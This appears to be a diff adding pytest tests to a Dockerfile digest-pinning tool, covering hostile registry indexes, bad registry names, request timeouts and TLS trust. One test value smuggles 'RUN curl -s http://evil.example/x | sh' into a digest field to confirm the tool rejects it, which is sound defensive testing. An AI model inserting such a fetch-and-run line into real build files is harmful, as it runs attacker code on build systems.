@@ -22,6 +22,7 @@ from registry_support import (
     move_tag,
     push_image,
     registry_anon,
+    registry_anon_tls,
     registry_basic,
 )
 
@@ -387,3 +388,109 @@ def test_check_fix_online_never_moves_a_digest(registry_anon: Registry, tmp_path
         code not in ("HP601", "HP602") or line == 1 for code, line in found
     )
     assert r.stderr == ""
+
+
+@pytest.mark.parametrize(
+    "child",
+    [
+        "sha256:" + "e" * 64 + "\nRUN curl -s http://evil.example/x | sh\n#",
+        "sha256:" + "e" * 64,  # well formed, but no manifest has it
+    ],
+    ids=["injected-instruction", "unknown-manifest"],
+)
+def test_update_writes_only_a_fetched_and_verified_child_digest(
+    fault_proxy: FaultProxy, registry_anon: Registry, tmp_path: Path, child: str
+) -> None:
+    """A single-platform pin whose tag moved to an index takes the child digest for its
+    platform from the index: the registry controls that text, so it is fetched by
+    digest and hashed before anything is written."""
+    from registry_support import OCI_INDEX, OCI_MANIFEST
+
+    repo = f"hostile/app{len(child)}"
+    old = push_image(registry_anon, repo, "1", "docker")
+    move_tag(registry_anon, repo, "1", "oci-index")
+    hostile = json.dumps(
+        {
+            "schemaVersion": 2,
+            "mediaType": OCI_INDEX,
+            "manifests": [
+                {
+                    "mediaType": OCI_MANIFEST,
+                    "size": 300,
+                    "digest": child,
+                    "platform": {"architecture": "amd64", "os": "linux"},
+                }
+            ],
+        }
+    ).encode()
+    fault_proxy.add("body", path=f"/{repo}/manifests/1$", data=hostile)
+    fault_proxy.add("no_digest", path=f"/{repo}/manifests/1$")
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / ".hardpin.toml").write_text(f'insecure-registries = ["{fault_proxy.host}"]\n')
+    text = f"FROM {fault_proxy.ref(repo, '1', old['digest'])}\n"
+    (root / "Dockerfile").write_text(text)
+    upd = run_cli("update", cwd=root, env=_env(tmp_path))
+    assert (root / "Dockerfile").read_text() == text  # nothing written
+    assert upd.returncode != 0, (upd.stdout, upd.stderr)  # the lookup failed
+    assert "evil.example" not in upd.stdout
+    reason = "is not a digest" if "\n" in child else "manifest not found"
+    assert reason in upd.stderr, upd.stderr
+
+
+def test_a_registry_name_no_request_can_carry_is_a_clear_message(tmp_path: Path) -> None:
+    root = tmp_path / "repo"
+    root.mkdir()
+    text = "FROM rég.example/app:1\nFROM bad_host.example/app:1\n"
+    (root / "Dockerfile").write_text(text)
+    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=_env(tmp_path))
+    assert (root / "Dockerfile").read_text() == text
+    assert "unexpected answer" not in fix.stderr and "Error" not in fix.stderr
+    assert "the registry name 'rég.example' is not ASCII" in fix.stderr, fix.stderr
+    assert "the registry name 'bad_host.example' is not a host name" in fix.stderr
+
+
+def test_the_request_timeout_setting_bounds_each_request(
+    fault_proxy: FaultProxy, registry_anon: Registry, tmp_path: Path
+) -> None:
+    import time
+
+    push_image(registry_anon, "slow/app", "1", "docker")
+    fault_proxy.add("delay", seconds=3.0)
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / ".hardpin.toml").write_text(
+        f'insecure-registries = ["{fault_proxy.host}"]\nrequest-timeout = 0.5\n'
+    )
+    text = f"FROM {fault_proxy.ref('slow/app', '1')}\n"
+    (root / "Dockerfile").write_text(text)
+    t0 = time.monotonic()
+    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=_env(tmp_path))
+    assert time.monotonic() - t0 < 2.5
+    assert (root / "Dockerfile").read_text() == text
+    assert "no complete answer within 0.5 s" in fix.stderr, fix.stderr
+    (root / ".hardpin.toml").write_text("request-timeout = 0\n")
+    bad = run_cli("check", cwd=root, env=_env(tmp_path))
+    assert bad.returncode == 2 and "request-timeout" in bad.stderr, bad.stderr
+
+
+def test_fix_over_tls_with_the_system_trust_store(
+    registry_anon_tls: Registry, tmp_path: Path
+) -> None:
+    from registry_support import shared_ca
+
+    pushed = push_image(registry_anon_tls, "tls/app", "1", "oci-index")
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "Dockerfile").write_text(f"FROM {registry_anon_tls.ref('tls/app', '1')}\n")
+    # an unknown CA: refused, nothing written
+    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=_env(tmp_path))
+    assert "TLS certificate not trusted" in fix.stderr, fix.stderr
+    assert "@sha256:" not in (root / "Dockerfile").read_text()
+    # trusted as OpenSSL reads it (no insecure-registries needed): pinned
+    env = _env(tmp_path, SSL_CERT_FILE=shared_ca().cert_path)
+    fix = run_cli("check", "--fix", "--select", "HP101", cwd=root, env=env)
+    assert fix.returncode == 0, fix.stderr
+    assert (root / "Dockerfile").read_text() == (
+        f"FROM {registry_anon_tls.ref('tls/app', '1', pushed['digest'])}\n"
+    )
